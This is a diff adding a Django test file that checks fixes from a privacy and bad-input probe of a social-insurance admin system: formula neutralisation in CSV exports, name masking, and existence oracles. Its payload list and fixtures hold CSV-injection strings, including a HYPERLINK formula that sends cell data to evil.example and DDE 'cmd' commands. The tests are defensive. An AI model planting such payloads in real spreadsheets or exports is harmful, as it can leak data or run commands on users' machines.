@@ -1,0 +1,161 @@
+"""Issue 25: the second privacy and bad-input probe's findings, each with its reproducer."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import Client
+
+from common.spreadsheet import cell_neutral
+from tests.agency.factories import OfficeFactory, RegionFactory, clerk_user
+from tests.employers.factories import EmployerFactory
+from tests.insured.factories import PersonFactory
+
+pytestmark = pytest.mark.django_db
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+PDF = b"%PDF-1.4\n% bank voucher for tests\n%%EOF\n"
+
+
+def _cells(body: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for cell in row]
+
+
+def _runs_as_formula(cell: str) -> bool:
+    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def region():
+    region = RegionFactory(code="310101", name="黄浦区")
+    OfficeFactory(region=region)
+    return region
+
+
+def _clerk_client(region, groups=("clerk",)):
+    client = Client()
+    client.force_login(clerk_user(region.offices.first(), groups=groups))
+    return client
+
+
+def test_cell_neutral_keeps_numbers_and_plain_text():
+    from decimal import Decimal
+
+    assert cell_neutral(Decimal("-12.30")) == Decimal("-12.30") and cell_neutral(-5) == -5
+    assert cell_neutral("张三") == "张三" and cell_neutral("a=b") == "a=b"
+    assert [cell_neutral(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
+
+
+def test_persons_export_neutralises_formulas(region):
+    people = [PersonFactory(region=region, name=p) for p in PAYLOADS]
+    response = _clerk_client(region).post("/admin/insured/insuredperson/", {
+        "action": "export_csv", "_selected_action": [p.pk for p in people]})
+    cells = _cells(b"".join(response.streaming_content).decode())
+    for payload in PAYLOADS:
+        assert "'" + payload in cells
+    assert not any(_runs_as_formula(c) for c in cells)
+
+
+def test_payments_export_neutralises_bank_references(region):
+    from contributions.models import Payment
+
+    employer = EmployerFactory(region=region, name='=HYPERLINK("http://evil.example","公司")')
+    client = _clerk_client(region)
+    response = client.post("/admin/contributions/payment/add/", {
+        "employer": employer.pk, "bank_reference": "=1+2", "amount": "10.00", "paid_on": "2026-01-15",
+        "note": "", "voucher_file": SimpleUploadedFile("v.pdf", PDF, content_type="application/pdf")})
+    assert response.status_code == 302, response.content.decode()[:2000]
+    response = client.post("/admin/contributions/payment/", {
+        "action": "export_csv", "_selected_action": list(Payment.objects.values_list("pk", flat=True))})
+    cells = _cells(b"".join(response.streaming_content).decode())
+    assert "'=1+2" in cells and "'" + employer.name in cells
+    assert not any(_runs_as_formula(c) for c in cells)
+
+
+def test_a_masked_name_does_not_tell_the_names_length():
+    from common.identifiers import mask_name
+
+    assert {mask_name(n) for n in ("张伟", "张小明", "张欧阳娜")} == {"张**"}
+    assert mask_name("") == "" and mask_name(None) == ""
+
+
+def test_admin_walk_as_a_staff_user_without_an_office_meets_no_error(region):
+    """The probe's 500: /admin/statements/statementrun/ read the clerk's office unguarded."""
+    from django.contrib.auth.models import Group
+
+    from tests.agency.factories import UserFactory
+    from tests.common import admin_walk
+
+    PersonFactory(region=region, name="本区张三")
+    user = UserFactory(username="lost", is_staff=True)
+    user.groups.add(*Group.objects.filter(name__in=["clerk", "supervisor"]))
+    client = Client()
+    client.force_login(user)
+    walk = admin_walk.admin_walk(client, extra_urls=("/admin/statements/statementrun/",), max_per_view=1)
+    assert walk.visited["/admin/statements/statementrun/"] == 200
+    assert len(walk.visited) > 20 and all(status < 500 for status in walk.visited.values())
+    assert "本区张三" not in client.get("/admin/insured/insuredperson/").content.decode()
+
+
+# --- item 4: existence oracles --------------------------------------------------------------------
+
+def test_a_declaration_row_does_not_tell_whether_a_stranger_is_registered():
+    """The probe's reproducer: a registered person of any region answered `not_on_staff`, an unknown
+    number `unknown_document`, so a portal could test 100,000 ID numbers a request."""
+    from decimal import Decimal as D
+
+    from agency.models import AverageWage
+    from contributions.services.declarations import DeclarationInvalid
+    from insured.models import Employment
+    from tests.contributions.test_declarations import file, recorded_in_time
+
+    region = RegionFactory()
+    OfficeFactory(region=region)
+    AverageWage.objects.create(region=region, year=2026, monthly_wage=D("10000.00"), effective_from=date(2026, 1, 1))
+    employer = EmployerFactory(region=region)
+    mine = PersonFactory(region=region)
+    Employment.objects.create(person=mine, employer=employer, start_date=date(2025, 6, 1), monthly_wage=D("8000"))
+    recorded_in_time(Employment.objects.all())
+    elsewhere = PersonFactory(region=RegionFactory())  # registered, in another region, on nobody's roll
+    unregistered = "110101199003070000"
+    with pytest.raises(DeclarationInvalid) as refused:
+        file(employer, [{"document_number": mine.document_number, "wage": "8000"},
+                        {"document_number": elsewhere.document_number, "wage": "8000"},
+                        {"document_number": unregistered, "wage": "8000"}])
+    answers = {e["row"]: (e["code"], e["message"]) for e in refused.value.errors}
+    assert answers[2] == answers[3] and answers[2][0] == "not_on_staff"
+
+
+def test_another_employers_bank_reference_answers_as_a_new_one():
+    from decimal import Decimal as D
+
+    from common.access import Kind, Viewer
+    from contributions.services.payments import payment_record
+
+    first, second = EmployerFactory(), EmployerFactory()
+    paid, created = payment_record(employer_id=first.pk, bank_reference="ICBC-77", amount=D("10.00"),
+                                   paid_on=date(2026, 1, 10), actor=Viewer(Kind.EMPLOYER, employer_id=first.pk))
+    assert created
+    other, created = payment_record(employer_id=second.pk, bank_reference="ICBC-77", amount=D("10.00"),
+                                    paid_on=date(2026, 1, 10), actor=Viewer(Kind.EMPLOYER, employer_id=second.pk))
+    assert created and other.pk != paid.pk and other.employer_id == second.pk
+
+
+def test_print_shop_manifest_neutralises_formulas(settings, tmp_path):
+    from statements.models import PrintBatch
+    from statements.services.delivery import print_batch_files
+    from tests.statements.world import build, run_year
+
+    settings.MEDIA_ROOT = tmp_path
+    w = build(delivery="post")
+    PersonFactory(region=w.person.region, name=PAYLOADS[0], statement_delivery="post",
+                  postal_address="100005 =cmd|' /C calc'!A0")
+    run_year()
+    _pdf, manifest = print_batch_files(PrintBatch.objects.get(region=w.person.region))
+    cells = _cells(manifest.decode("utf-8"))
+    assert "'" + PAYLOADS[0] in cells and not any(_runs_as_formula(c) for c in cells)
